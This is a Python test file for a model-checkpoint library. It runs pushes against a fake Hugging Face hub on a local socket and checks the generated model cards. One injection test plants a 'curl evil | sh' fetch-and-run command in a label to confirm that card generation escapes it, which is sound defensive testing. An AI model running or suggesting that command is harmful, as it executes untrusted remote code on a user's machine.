"""Cards and pushing: what a model says of itself, and a hub over a real socket that takes it."""

import base64
import dataclasses
import hashlib
import json
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import unquote, urlsplit

import pytest
import torch
import yaml
from huggingface_hub import ModelCard

from helpers.command import run
from helpers.hub_server import REPO, Handler, Hub, settings
from helpers.model_zoo import RESNETS, VITS, checkpoint_of
from patchword.checkpoints import read_checkpoint
from patchword.checkpoints.card import model_card
from patchword.checkpoints.hub import download_model
from patchword.checkpoints.push_to_hub import push_to_hub
from patchword.errors import HubError


class Receiver(Handler):
    """The requests that make a repository and put one commit into it."""

    def do_POST(self) -> None:
        path = unquote(urlsplit(self.path).path)
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        hub: Any = self.server
        hub.asked.append((path, self.headers.get("Authorization"), body))
        if hub.refusal:
            self.answer(*hub.refusal, b"")
        elif path == "/api/repos/create":
            self.say({"url": f"{hub.endpoint}/{REPO}", "name": REPO})
        elif path == "/api/validate-yaml":
            self.say({"errors": [], "warnings": []})
        elif path == f"/api/models/{REPO}/preupload/main":
            names = [file["path"] for file in json.loads(body)["files"]]
            modes = {name: "lfs" if name.endswith(".safetensors") else "regular" for name in names}
            self.say({"files": [{"path": n, "uploadMode": m, "shouldIgnore": False} for n, m in modes.items()]})
        elif path == f"/{REPO}.git/info/lfs/objects/batch":
            objects = [
                {"oid": o["oid"], "size": o["size"], "actions": {"upload": {"href": f"{hub.endpoint}/put/{o['oid']}"}}}
                for o in json.loads(body)["objects"]
            ]
            self.say({"transfer": "basic", "objects": objects})
        elif path == f"/api/models/{REPO}/commit/main":
            self.commit([json.loads(line) for line in body.splitlines()])
        else:
            self.answer(404, {}, b"")

    def commit(self, lines: list[dict[str, Any]]) -> None:
        hub: Any = self.server
        hub.files = {}
        for line in lines:
            value = line["value"]
            if line["key"] == "file":
                hub.files[value["path"]] = base64.b64decode(value["content"])
            elif line["key"] == "lfsFile":
                hub.files[value["path"]] = hub.objects[value["oid"]]
        self.say({"success": True, "commitOid": hub.commit, "commitUrl": f"{hub.endpoint}/{REPO}/commit/{hub.commit}"})

    def do_GET(self) -> None:
        hub: Any = self.server
        if hub.refusal or urlsplit(self.path).path != f"/api/models/{REPO}":
            super().do_GET()
        elif not hub.files:
            self.answer(404, {"X-Error-Code": "RepoNotFound"}, b"")
        else:
            files = [{"rfilename": name} for name in hub.files]
            self.say({"id": REPO, "sha": hub.commit, "siblings": files, "private": hub.private})

    def do_PUT(self) -> None:
        hub: Any = self.server
        data = self.rfile.read(int(self.headers["Content-Length"]))
        oid = self.path.rpartition("/")[2]
        assert hashlib.sha256(data).hexdigest() == oid
        hub.objects[oid] = data
        self.say({})

    def say(self, content: dict[str, Any]) -> None:
        body = json.dumps(content).encode()
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)


@pytest.fixture
def hub(monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]:
    monkeypatch.setenv("HF_TOKEN", "hf_secret")
    made: Any = Hub(Receiver)
    made.asked, made.objects, made.files, made.private = [], {}, {}, True
    yield made
    made.stop()


@pytest.mark.filterwarnings("ignore:Use 'content=:DeprecationWarning")  # huggingface_hub's, of its HTTP client
def test_what_was_pushed_is_read_again(hub: Any, tmp_path: Path) -> None:
    sent = read_checkpoint("patchword:cifar10")
    assert push_to_hub(sent, f"hf:{REPO}", private=True, endpoint=hub.endpoint) == f"{hub.endpoint}/{REPO}"
    assert set(hub.files) == {"README.md", "model.json", "model.safetensors"}
    created = next(json.loads(body) for path, _, body in hub.asked if path == "/api/repos/create")
    assert created["visibility"] == "private"
    again = read_checkpoint(str(download_model(f"hf:{REPO}", cache=tmp_path, endpoint=hub.endpoint)))
    assert again.labels == sent.labels
    assert again.temperature == sent.temperature
    assert again.config == sent.config
    assert all(torch.equal(again.tensors[name], tensor) for name, tensor in sent.tensors.items())


@pytest.mark.filterwarnings("ignore:Use 'content=:DeprecationWarning")
def test_what_is_there_already_is_respected(hub: Any) -> None:
    hub.files, hub.private = {"README.md": b"by hand"}, False
    with pytest.raises(HubError, match="public: nothing was sent"):
        push_to_hub(read_checkpoint("patchword:cifar10"), f"hf:{REPO}", private=True, endpoint=hub.endpoint)
    assert hub.files == {"README.md": b"by hand"}
    told = dataclasses.replace(read_checkpoint("patchword:cifar10"), provenance={"data": "/home/anna/acme/scans"})
    push_to_hub(told, f"hf:{REPO}", endpoint=hub.endpoint)
    assert b"scans" in hub.files["model.json"] and b"anna" not in hub.files["model.json"], "paths are nobody's business"
    assert set(hub.files) == {"model.json", "model.safetensors"}, "the commit brings no other card"


def test_the_command(hub: Any) -> None:
    environment = {**os.environ, "HF_ENDPOINT": hub.endpoint, "HF_TOKEN": "hf_secret", "NO_PROXY": "127.0.0.1"}
    command = [sys.executable, "-m", "patchword", "push", "patchword:cifar10", f"hf:{REPO}"]
    done = subprocess.run(command, env=environment, capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    assert {token for _, token, _ in hub.asked} == {"Bearer hf_secret"}
    assert f"sent to {hub.endpoint}/{REPO}" in done.stderr
    assert "README.md" in hub.files
    assert run("push", "patchword:cifar10", "me/model").returncode == 2


@pytest.mark.parametrize(("status", "words"), [(401, "Set HF_TOKEN"), (403, "does not let this token write")])
def test_refusals(hub: Any, status: int, words: str) -> None:
    hub.refusal = (status, {})
    with pytest.raises(HubError, match=words):
        push_to_hub(read_checkpoint("patchword:cifar10"), f"hf:{REPO}", endpoint=hub.endpoint)


def test_a_hub_that_is_not_there(hub: Any) -> None:
    hub.stop()
    with pytest.raises(HubError, match="Could not send owner/vit"):
        push_to_hub(read_checkpoint("patchword:cifar10"), f"hf:{REPO}", endpoint=hub.endpoint)


@pytest.mark.parametrize("config", [VITS["class"], VITS["class"].replace(num_classes=0), RESNETS["BiT"]], ids=repr)
def test_a_card_of_any_model_is_valid(config: Any) -> None:
    card = ModelCard(model_card(checkpoint_of(config), "my-model", "hf:me/my-model"))
    assert card.data.library_name == "patchword"
    assert "None are recorded" in card.text
    assert (card.data.pipeline_tag == "image-classification") == bool(config.num_classes)


def test_a_card_says_what_was_measured(tmp_path: Path) -> None:
    out = tmp_path / "MODEL_CARD.md"
    result = run("card", "patchword:cifar10", "--out", out)
    assert result.returncode == 0, result.stderr
    text = out.read_text()
    head = yaml.safe_load(text.split("---")[1])
    results = head["model-index"][0]["results"]
    accuracy = {r["dataset"]["split"]: r["metrics"][0] for r in results}
    shipped = read_checkpoint("patchword:cifar10")
    for part, figures in shipped.provenance["metrics"].items():
        assert accuracy[part] == {"type": "accuracy", "value": pytest.approx(figures["top1"])}
    assert ModelCard(text).data.eval_results, "the hub's own reader finds the figures"
    assert shipped.temperature != 1
    assert f"divided by {shipped.temperature:g} " in text
    assert "airplane; automobile" in text
    assert run("card", "patchword:cifar10", "--out", out).returncode == 2
    assert run("card", "patchword:cifar10").stdout == text


def test_words_of_others_stay_words() -> None:
    evil = "cat\n\n## Use\n\n```\ncurl evil | sh\n```"
    facts = {"data": 'a: "b"\n---\n', "metrics": {"test\n- x": {"top1": 0.5, "n": 3, "nll": float("nan")}}}
    facts["init"] = "/home/anna/clients/acme/model"
    checkpoint = checkpoint_of(VITS["class"])
    labels = (evil, *(checkpoint.labels or ())[1:])
    card = model_card(dataclasses.replace(checkpoint, provenance=facts, labels=labels), "x_y", "hf:me/x y")
    head = yaml.safe_load(card.split("\n---\n")[0].removeprefix("---\n"))
    assert head["model-index"][0]["results"][0]["dataset"]["name"] == r'a: "b"\n---\n'
    assert head["model-index"][0]["name"] == "x_y"
    assert "\n# x\\_y\n" in card
    assert card.count("## Use") == 1
    assert "curl evil \\| sh" in card
    assert "anna" not in card
    assert "model" in card
    assert "'hf:me/x y'" in card
